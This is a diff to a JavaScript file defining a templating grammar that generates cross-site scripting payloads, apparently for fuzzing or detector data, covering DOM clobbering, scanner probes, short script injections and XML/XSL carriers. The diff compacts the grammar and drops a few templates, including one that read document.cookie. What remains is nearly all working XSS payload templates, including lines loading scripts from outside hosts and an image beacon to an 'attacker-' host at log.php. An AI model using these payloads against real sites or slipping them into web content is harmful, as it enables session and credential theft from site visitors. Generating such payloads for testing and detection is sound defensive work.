@@ -7,16 +7,21 @@ const LS = '\u2028'
 const PS = '\u2029'
 const ZWSP = '\u200b'
 
-/**
- * Cross-site scripting: markup, breakouts of attributes, elements and strings, templates in the browser, mutation,
- * clobbering, encodings, exfiltration, and payloads in the midst of ordinary values.
- */
+/** The families and their contexts: breakouts, templates, mutation, clobbering, encodings, ordinary values around. */
 const XSS_FAMILIES = String.raw`
-xs.html = ‹xs.script› ‹xs.script› ‹xs.script› ‹xs.script› ‹xs.script› ‹xs.script› ‹xs.script› ‹xs.image› ‹xs.image›
-  ‹xs.image› ‹xs.image› ‹xs.image› ‹xs.image› ‹xs.media› ‹xs.media› ‹xs.svg› ‹xs.svg› ‹xs.svg› ‹xs.svg› ‹xs.svg›
-  ‹xs.svg› ‹xs.elem› ‹xs.elem› ‹xs.elem› ‹xs.elem› ‹xs.elem› ‹xs.elem› ‹xs.focus› ‹xs.focus› ‹xs.focus› ‹xs.frame›
-  ‹xs.frame› ‹xs.frame› ‹xs.frame› ‹xs.link› ‹xs.link› ‹xs.link› ‹xs.link› ‹xs.basic› ‹xs.basic› ‹xs.basic› ‹xs.basic›
-  ‹xs.math› ‹xs.style› ‹xs.filter› ‹xs.mutant›
+xs.html: 7× ‹xs.script›
+  6× ‹xs.image›
+  2× ‹xs.media›
+  6× ‹xs.svg›
+  6× ‹xs.elem›
+  3× ‹xs.focus›
+  4× ‹xs.frame›
+  4× ‹xs.link›
+  4× ‹xs.basic›
+  ‹xs.math›
+  ‹xs.style›
+  ‹xs.filter›
+  ‹xs.mutant›
 xss/script 7: ‹xs.script›
 xss/image 5: ‹xs.image›
 xss/media 2: ‹xs.media›
@@ -292,10 +297,9 @@ xss/client 6: 4× {{‹:q:'›‹xs.ctor›}}
   <%- "‹xs.tiny›" %>
   {{#with ‹~1-4›}}‹xs.basic›{{/with}}
   <p :style="{x:‹:q:'›‹xs.ctor›}">
-  <turbo-frame src="‹xs.url›"></turbo-frame>
   <div aura:id="‹xs.basic›"></div>
 xs.prop = attributes parentNode childNodes nodeName innerHTML getElementById createElement currentScript cookie body location domain implementation all forms documentElement querySelector addEventListener tagName length config settings user defaultAvatar options hasAttribute firstChild removeChild action elements ‹~3-9› ‹^3-7›_‹^3-6› ‹~2-6›‹^1›‹~2-6›
-xss/clobber 2: 3× <a id=‹=i:‹xs.prop››><a id=‹=i› name=‹xs.prop› href="‹:q:'›‹‹xs.uri›¦cid:&quot;onerror=‹xs.base›(‹n›)//¦‹xs.url›¦‹~1-4›:‹xs.base›(‹n›)›">
+xss/clobber 2: 3× <a id=‹=i:‹xs.prop››><a id=‹=i› name=‹xs.prop› href="‹:q:'›‹‹xs.uri›¦cid:&quot;onerror=‹xs.base›(‹n›)//¦‹~1-4›:‹xs.base›(‹n›)›">
   <a id="‹xs.prop›" href="‹:q:'›‹‹xs.jsuri›¦‹~2-5›:‹xs.base›(‹n›)//¦data:,‹xs.base›(‹n›)//›"></a>
   2× <form id=‹=i:‹xs.prop››><‹output¦input¦button¦img¦fieldset› ‹id¦name›=‹xs.prop›‹ value="‹xs.tiny›"¦ value=javascript:‹xs.base›(‹n›)¦><script>‹xs.base›(‹n›)</script›>
   <form ‹:ev:‹xs.evhover››‹xs.h›‹ id=‹~1-3›¦› tabindex=0><input id=‹attributes¦parentNode¦nodeName¦childNodes›>‹xs.text›
@@ -303,7 +307,6 @@ xss/clobber 2: 3× <a id=‹=i:‹xs.prop››><a id=‹=i› name=‹xs.prop�
   <img name=‹cookie¦getElementById¦currentScript¦body¦querySelector¦createElement› ‹src=‹xs.src› ¦›‹:ev:error›‹xs.h›>
   <iframe name=‹=i:‹xs.prop›› srcdoc="<iframe srcdoc='<a id=‹xs.prop› name=‹xs.prop› href=&quot;‹xs.url›&quot;></a>' name=‹xs.prop›>"></iframe>
   <iframe name=‹xs.prop› srcdoc="<a id=‹xs.prop› href=javascript:‹xs.base›(‹n›)>"></iframe><style>@import '//‹host›/'</style>
-  <html id="‹=i:‹cdnDomain¦‹xs.prop›››"><a id=‹=i› href="‹xs.url›"></a>
   <base id=‹xs.prop› href="‹xs.url›">
   <img id=‹xs.prop› name=currentScript src="‹xs.url›">
   <object id=‹=i:‹xs.prop››><object id=‹=i› name=‹xs.prop›></object></object><svg ‹:ev:load›‹xs.h›>
@@ -413,7 +416,6 @@ xss/scanner 4: '"()&%<acx><ScRiPt >‹~2-6›(‹n›)</ScRiPt>
   ‹n›\u003CScRiPt\‹~2-4›(‹n›)\u003C/sCripT\u003E
   ‹n›&lt;ScRiPt&gt;‹~2-5›(‹n›)&lt;/ScRiPt&gt;
   ‹~3-6›<img sRc='http://attacker-‹#1000-9999›/log.php?
-  ‹~3-6›<‹~6›<
   ‹n›<script/src=//‹host›/‹*8-20›></script>
   ‹n›'"><img/src/onerror=.1|alert´‹~2-6›´>
   <ScRiPt/acu src=//‹host›/t/xss.js?‹%4-8›></ScRiPt>
@@ -634,15 +636,8 @@ xss/short 4: <‹q¦b¦i¦a¦p¦x¦u¦s¦h1¦br¦hr¦‹~1››‹/¦ ›on‹c
   <script>location=name</script>
   <script>§.getScript('//‹~3›.‹~2›')</script>
   <script>import('//‹~3›.‹~2›')</script>
-  <script>/*
   */</script><script>/*
   */alert()/*
-  */document./*
-  */cookie/*
-  */</script>
-  "><svg onload=/*
-  */alert/**//*
-  */(‹n›)//
   <svg/onload=´§{alert´‹#0-9›´}´>
   <form/oninput=alert()><input>
 
@@ -882,7 +877,7 @@ xs.xdoc: 2× <‹=r:‹~2-7››><‹=t:‹xs.tag›› ‹xs.xns› ‹:ev:‹
   <‹=r:‹~2-7››><![CDATA[<]]>script<![CDATA[>]]>‹xs.base›(‹n›)<![CDATA[<]]>/script<![CDATA[>]]></‹=r›>
   <‹=r:‹noun››><‹=t:‹col››>‹xml!‹xs.html››</‹=t›></‹=r›>
   <‹=r:‹noun››><‹=t:‹col››><![CDATA[‹xs.html›]]></‹=t›></‹=r›>
-  <?xml-stylesheet type="text/‹xsl¦xml¦css›" href="‹:q:'›‹‹xs.uri›¦‹xs.url›¦#‹~1-3››"?><‹=r:‹~2-6››/>
+  <?xml-stylesheet type="text/‹xsl¦xml›" href="‹:q:'›‹‹xs.uri›¦‹xs.url››"?><‹=r:‹~2-6››/>
   <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>‹:q:'›‹xs.call›</script></xsl:template></xsl:stylesheet>
   <rss version="2.0"><channel><title>‹xml!‹xs.basic››</title><item><link>‹:q:´›‹xml!‹xs.jsuri››</link><description><![CDATA[‹xs.html›]]></description></item></channel></rss>
   <feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="html">‹xml!‹xs.basic››</title><link href="‹:q:'›‹xs.jsuri›"/></entry></feed>
@@ -929,4 +924,5 @@ xss/page [file] 2: <html>‹<head><title>‹word›</title></head>¦›<body>‹
   {"‹~2-6›":"‹json!‹xs.html››"}
 `
 
+/** Cross-site scripting: the scripts, the markup that carries them, and the families that set both into contexts. */
 export const XSS = XSS_SCRIPT + XSS_MARKUP + XSS_FAMILIES
